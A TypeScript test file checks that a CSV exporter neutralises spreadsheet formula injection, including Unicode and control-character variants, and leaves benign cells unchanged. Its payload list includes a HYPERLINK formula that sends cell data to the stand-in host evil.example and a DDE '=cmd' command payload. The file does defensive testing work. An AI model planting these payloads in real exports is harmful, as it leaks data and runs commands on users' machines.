import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { csvOf, safeCell } from './csv'

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
const hostile = [
  formula, `\u0000${formula}`, `\ufeff${formula}`, `\n${formula}`, `\r\n${formula}`, `\t${formula}`, `  ${formula}`, `\u200b${formula}`, `\u00a0${formula}`,
  '+1+1', '-2+3', '@SUM(A1)', '|cmd', '%0A', '＝1+1', "=cmd|'/C calc'!A0", '\u0007=1', '\u2028=1',
]

const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false })

describe('a CSV cell', () => {
  test.each(hostile.map((cell) => [cell]))('%j stays text in a spreadsheet', (cell) => {
    const [, row] = read(csvOf(['Note'], [[cell]]))
    expect(row).toHaveLength(1)
    expect(row?.[0]).toMatch(/^'/)
    expect(row?.[0]).not.toMatch(/[\u0000-\u0008\ufeff\u200b]/)
  })

  test('of many hostile ones comes back as it was written, in its place', () => {
    const rows = hostile.map((cell, index) => [String(index), cell, 'a "quoted", cell', 'two\nlines'])
    expect(read(csvOf(['a', 'b', 'c', 'd'], rows)).slice(1)).toEqual(rows.map((row) => row.map(safeCell)))
  })

  test.each(['Larkrise Meds', 'a - b', '1,200', 'née', '🙂', "it's", '', 'two\nlines'])('%j is left as it is', (cell) => {
    expect(read(csvOf(['Note'], [[cell, 'x']].map(([note]) => [note ?? ''])))[1]).toEqual([cell])
  })

  test('begins the file with the mark by which Excel knows UTF-8, and ends lines as RFC 4180 has it', () => {
    expect(csvOf(['a', 'b'], [['1', '2']])).toBe('\ufeff"a","b"\r\n"1","2"\r\n')
  })
})
